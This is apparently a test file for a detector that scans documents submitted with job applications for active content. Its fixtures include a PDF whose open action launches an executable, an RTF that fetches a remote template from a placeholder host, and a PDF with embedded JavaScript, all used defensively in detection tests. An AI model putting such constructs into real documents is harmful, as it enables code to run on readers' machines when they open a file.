import { expect, test } from 'vitest'
import { applicationOf, hits } from '../testing.ts'
import detector from './document-acts.ts'

const pdf = (catalog: string) =>
  `%PDF-1.7\n1 0 obj\n<< /Type /Catalog ${catalog} >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n`

const titles = async (name: string, text: string) => {
  const documents = [{ name, bytes: Buffer.from(text).toString('base64') }]
  return hits(detector, await applicationOf({ documents })).map(({ title }) => title)
}

test('attack: a résumé that starts a program, or fetches its template', async () => {
  const launching = pdf('/OpenAction << /S /Launch /F (a.exe) >>')
  expect(await titles('cv.pdf', launching)).toEqual([detector.signals.starts?.title])
  const fetching = '{\\rtf1 {\\*\\template http://files.invalid/a.dotm} text}'
  expect(await titles('cv.rtf', fetching)).toEqual([detector.signals.starts?.title])
})

test('a script is context', async () => {
  expect(await titles('cv.pdf', pdf('/OpenAction << /S /JavaScript /JS (1) >>'))).toEqual([
    detector.signals.script?.title,
  ])
})

test('innocent: documents that do nothing', async () => {
  expect(await titles('cv.pdf', pdf(''))).toEqual([])
  expect(await titles('cv.rtf', '{\\rtf1 Ada Winter}')).toEqual([])
  expect(await titles('cv.txt', 'Ada Winter, engineer')).toEqual([])
})
